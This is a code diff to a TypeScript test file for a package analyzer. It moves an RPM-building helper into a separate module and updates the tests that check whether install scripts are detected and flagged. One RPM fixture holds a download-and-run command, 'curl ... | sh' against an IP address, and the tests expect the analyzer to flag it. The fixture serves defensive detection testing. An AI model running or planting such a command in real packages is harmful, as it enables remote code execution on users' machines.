@@ -4,6 +4,7 @@ import { test } from 'node:test'
 import type { FileRecord } from '../../src/file/analyze.ts'
 import { analyzeFile } from '../../src/file/analyze.ts'
 import { writeAr, writeTar } from './archives/write-archive.ts'
+import { writeRpm } from './archives/write-rpm.ts'
 import { buildElf } from './elf/build-elf.ts'
 
 const analyze = (bytes: Uint8Array, fileName: string) => analyzeFile(bytes, { fileName, now: new Date(0) })
@@ -15,35 +16,6 @@ function deb(postinst: string): Buffer {
     member('debian-binary', '2.0\n'),
     { name: 'control.tar', bytes: writeTar([member('./control', 'Package: a\n'), member('./postinst', postinst)]) },
     { name: 'data.tar', bytes: writeTar([member('./usr/share/doc/a/README', 'text')]) },
-  ])
-}
-
-/** Lead, an empty signature header, and a header with one script and the program that runs it. */
-function rpm(script: string, program = '/bin/sh'): Buffer {
-  const header = (tags: readonly (readonly [number, string])[]): Buffer => {
-    const store = Buffer.from(tags.map(([, text]) => `${text}\0`).join(''))
-    const index = Buffer.alloc(16 * tags.length)
-    let at = 0
-    for (const [place, [tag, text]] of tags.entries()) {
-      for (const [field, value] of [tag, 6, at, 1].entries()) index.writeUInt32BE(value, place * 16 + field * 4)
-      at += Buffer.byteLength(text) + 1
-    }
-    const head = Buffer.alloc(16)
-    head.writeUInt32BE(0x8eade801, 0)
-    head.writeUInt32BE(tags.length, 8)
-    head.writeUInt32BE(store.length, 12)
-    return Buffer.concat([head, index, store])
-  }
-  const lead = Buffer.alloc(96)
-  lead.writeUInt32BE(0xedabeedb, 0)
-  lead.writeUInt8(3, 4)
-  return Buffer.concat([
-    lead,
-    header([]),
-    header([
-      [1024, script],
-      [1086, program],
-    ]),
   ])
 }
 
@@ -73,18 +45,18 @@ test('a Debian package that is cut off says so', async () => {
 })
 
 test('the script that an RPM package runs is found, with the program that runs it', async () => {
-  const { root } = await analyze(rpm('curl -fsSL http://203.0.113.9/i.sh | sh\n'), 'a.rpm')
+  const { root } = await analyze(writeRpm('curl -fsSL http://203.0.113.9/i.sh | sh\n'), 'a.rpm')
   const script = root.facts.children.find(({ name }) => name === 'postin')
   assert.equal(script?.type.fileType, 'script')
   assert.ok(idsOf(root).includes('script_pipes_download_to_shell'))
 })
 
 test('an RPM package that updates the library cache says nothing', async () => {
-  assert.deepEqual(idsOf((await analyze(rpm('/sbin/ldconfig\n'), 'a.rpm')).root), [])
+  assert.deepEqual(idsOf((await analyze(writeRpm('/sbin/ldconfig\n'), 'a.rpm')).root), [])
 })
 
 test('an RPM package whose header claims too much is a defect, not an exception', async () => {
-  const bytes = rpm('true')
+  const bytes = writeRpm('true')
   bytes.writeUInt32BE(0xffffffff, 96 + 8)
   assert.match((await analyze(bytes, 'a.rpm')).root.facts.defects.map(({ where }) => where).join(), /rpm\.header/)
 })
